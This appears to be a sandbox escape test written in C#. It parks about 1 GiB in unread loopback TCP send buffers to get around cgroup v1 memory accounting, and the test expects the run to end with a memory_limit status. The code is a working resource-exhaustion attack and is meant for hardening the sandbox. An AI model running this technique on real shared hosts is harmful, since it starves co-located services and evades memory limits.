// Attack: park memory outside the sandbox's memory cgroup in loopback TCP queues. On cgroup v1, socket
// buffers are charged only when memory.kmem.tcp.limit_in_bytes is set: one run parked 1 GiB while its
// cgroup showed 8 MiB, taken from the host-wide TCP pool that the bot's gateway, Redis and the API share.
// How: open hundreds of loopback connections, fill each send queue without ever reading, then sleep.
// Contained when: the sandbox's socket buffers have a cap of their own and reaching it ends the run as
// memory_limit, long before the wall clock; a benign run beside it still works.
// concurrent-benign: true
// expect-status: memory_limit
using System.Net;
using System.Net.Sockets;
var listener = new TcpListener(IPAddress.Loopback, 0);
listener.Start(1000);
var port = ((IPEndPoint)listener.LocalEndpoint).Port;
var keep = new List<Socket>();
long parked = 0;
var chunk = new byte[1 << 16];
for (var i = 0; i < 2000; i++)
{
    var client = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { SendBufferSize = 4 << 20 };
    client.Connect(IPAddress.Loopback, port);
    var server = listener.AcceptSocket();
    server.ReceiveBufferSize = 4 << 20;
    keep.Add(client);
    keep.Add(server);
    client.Blocking = false;
    try { while (true) parked += client.Send(chunk); } catch (SocketException) { }
    if (parked > 1L << 30) { Console.WriteLine("ESCAPED: 1 GiB parked in socket buffers"); break; }
}
Console.WriteLine($"parked {parked >> 20} MiB");
Thread.Sleep(Timeout.Infinite);
